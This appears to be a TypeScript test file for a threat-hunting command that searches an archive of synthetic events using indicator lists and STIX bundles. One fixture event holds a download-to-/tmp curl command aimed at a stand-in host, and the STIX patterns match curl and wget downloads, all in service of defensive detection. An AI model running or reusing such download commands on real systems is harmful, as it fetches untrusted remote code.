/** `asepsis hunt` over a small archive: lists and STIX bundles, exit codes, what it says, a list without anything in it. */

import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openArchiveReader, openArchiveWriter } from '../archive/index.ts';
import type { Alert, ArchiveReader } from '../core/index.ts';
import { retroHunt } from './detection-hunt-commands.ts';
import { sampleEvent } from './testing/detection-samples.ts';

const T0 = Date.UTC(2026, 0, 5, 8);
let dir = '';
let archive: ArchiveReader;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'asepsis-hunt-command-'));
  const own = { dir: join(dir, 'archive'), streamId: 'aaaaaaaa', clock: { now: () => T0 + 86_400_000 } };
  const writer = await openArchiveWriter({ ...own, retentionDays: 36_500, upkeep: { sealRows: 1 } });
  const events = Array.from({ length: 300 }, (_, i) => {
    const norm = { host: `ws-${i % 3}`, dst_ip: i === 77 ? '198.51.100.7' : `203.0.113.${i % 90}`, dst_port: 443 };
    const command_line = i === 99 ? 'curl http://drop.example/x -o /tmp/x' : `app --job ${i}`;
    const timeMs = T0 + i * 60_000;
    const event = sampleEvent({}, { timeMs, receivedMs: timeMs, norm: { ...norm, command_line } });
    return { ...event, seq: 1, index: i, raw: JSON.stringify({ ...norm, command_line }) };
  });
  await writer.append(events, 1);
  await writer.settle();
  await writer.close();
  archive = await openArchiveReader(own);
});
afterAll(async () => {
  await archive.close();
  await rm(dir, { recursive: true });
});

async function run(content: string): Promise<{ code: number; alerts: Alert[]; said: string }> {
  const file = join(dir, 'list.txt');
  await writeFile(file, content);
  let out = '';
  let said = '';
  const terminal = {
    out: (text: string) => {
      out += text;
    },
    say: (line: string) => {
      said += `${line}\n`;
    },
    progress: () => {},
    colour: false,
  };
  const span = { fromMs: 0, toMs: Number.MAX_SAFE_INTEGER };
  const options = { ...span, indicators: file, json: true, data: dir, streamId: 'aaaaaaaa' };
  const code = await retroHunt(archive, options, terminal);
  const lines = out.split('\n').filter((line) => line !== '');
  return { code, alerts: lines.map((line) => JSON.parse(line) as Alert), said };
}

test('a list finds its values; what was finished is not kept for a next time', async () => {
  const { code, alerts, said } = await run('198.51.100.7\ndrop.example\nnot.there.example\n');
  expect(code).toBe(1);
  expect(alerts.map(({ title, retrospective }) => `${title.split(' (')[0]} ${retrospective}`).toSorted()).toEqual([
    'address 198.51.100.7 true',
    'domain drop.example true',
  ]);
  expect(said).toMatch(
    /300 events in \d+ parts, \d+ of them not opened; \d+ distinct values tested, 2 events read, 2 alerts/,
  );
  expect(await readdir(join(dir, 'detection', 'hunts'))).toEqual([]);
});

test('a STIX bundle of patterns alone is hunted for', async () => {
  const indicator = (name: string, pattern: string) => ({
    type: 'indicator',
    spec_version: '2.1',
    id: `indicator--${name}`,
    name,
    pattern,
    pattern_type: 'stix',
    valid_from: '2025-01-01T00:00:00Z',
  });
  const bundle = {
    type: 'bundle',
    id: 'bundle--1',
    objects: [
      indicator('download and run', "[process:command_line LIKE 'curl%' AND process:command_line LIKE '%/tmp/x']"),
      indicator('elsewhere', "[process:command_line LIKE 'wget%' AND network-traffic:dst_port = 443]"),
    ],
  };
  const { code, alerts } = await run(JSON.stringify(bundle));
  expect(code).toBe(1);
  expect(alerts.map(({ title }) => title)).toEqual([expect.stringContaining('download and run')]);
});

test('nothing found is exit 0, a list of nothing is refused', async () => {
  expect(await run('203.0.114.1\nnot.there.example\n')).toMatchObject({ code: 0, alerts: [] });
  await expect(run('# nothing\n')).rejects.toThrow(/neither an indicator nor a pattern/);
});
